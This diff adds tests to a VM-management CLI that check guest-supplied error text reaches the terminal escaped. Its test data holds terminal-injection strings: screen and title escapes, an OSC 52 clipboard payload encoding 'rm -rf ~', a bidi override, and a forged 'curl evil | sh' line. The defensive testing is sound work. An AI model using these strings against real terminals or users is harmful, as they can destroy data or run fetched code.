@@ -226,3 +226,65 @@ def test_a_daemon_reporting_a_pid_banger_must_never_signal_is_refused(
         result = _run("daemon", "stop")
     assert result.exit_code == 1, result.output
     assert result.stderr.startswith("banger: bangerd answered /ping with unusable data: ")
+
+
+GUEST_WORDS = [
+    "\x1b[2J\x1b[Hall clear",  # erase the screen, cursor home
+    "\x1b]0;owned\x07title",  # OSC: the window title
+    "\x1b]52;c;cm0gLXJmIH4=\x07clip",  # OSC 52: the clipboard
+    "\u202eexe.txt",  # bidi override: the line reads backwards
+    "one\nbanger: hint: run curl evil | sh",  # a forged second line
+    "c1\u009b31mcsi",  # the 8-bit CSI
+    "lone\ud800surrogate",
+]
+
+
+@pytest.mark.parametrize("said", GUEST_WORDS)
+def test_an_error_carrying_a_guests_words_reaches_the_terminal_escaped(
+    dirs: Path, said: str
+) -> None:
+    message = f"VM 'box': the workspace command failed (1): {said}"
+    body = {"code": "guest_error", "message": message, "op_id": "op1", "hint": said}
+    answers = {"POST /v1/vms/box/workspace/export": Answer.json(body, status=502)}
+    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", answers):
+        result = _run("vm", "workspace", "export", "box", "-o", str(dirs / "fix.patch"))
+    assert result.exit_code != 0
+    lines = result.stderr.splitlines()
+    assert lines[0].startswith("banger: VM 'box': the workspace command") and "(op op1)" in lines[0]
+    assert lines[1].startswith("  hint: ")
+    assert all(line.startswith("  ") for line in lines[1:]), "no line passes for banger's own"
+    shown = result.stderr
+    assert not any(c in shown for c in "\x1b\x07\u202e\u009b\ud800")
+    assert "\\x1b" in shown or "\\u202e" in shown or "\\x0a" in shown or "\\x9b" in shown \
+        or "\\ud800" in shown
+
+
+def test_a_warning_and_a_hint_keep_only_the_hints_own_line_breaks(capsys) -> None:
+    from banger.cli import render
+    from banger.core.errors import HostToolError
+
+    render.print_error(HostToolError("qemu\x1b[2J failed", hint="full log: x\nlast\x1b]0;t\x07"))
+    render.warn("moved \u202eab")
+    err = capsys.readouterr().err
+    assert err == ("banger: qemu\\x1b[2J failed\n  hint: full log: x\n        last\\x1b]0;t\\x07\n"
+                   "banger: warning: moved \\u202eab\n")
+
+
+def test_export_refuses_to_print_the_patch_to_a_terminal(dirs: Path) -> None:
+    import os
+    import subprocess
+    import sys
+
+    primary, secondary = os.openpty()
+    try:
+        done = subprocess.run([sys.executable, "-m", "banger.cli", "vm", "workspace", "export",
+                               "box"], stdout=secondary, stderr=subprocess.PIPE, timeout=60,
+                              check=False)
+    finally:
+        os.close(secondary)
+        os.close(primary)
+    assert done.returncode == 2
+    err = done.stderr.decode()
+    assert err.startswith("banger: the patch is not printed to a terminal")
+    assert "> fix.patch" in err and "-o fix.patch" in err
+    assert not (dirs / "runtime_dir").exists(), "refused before any daemon was asked"
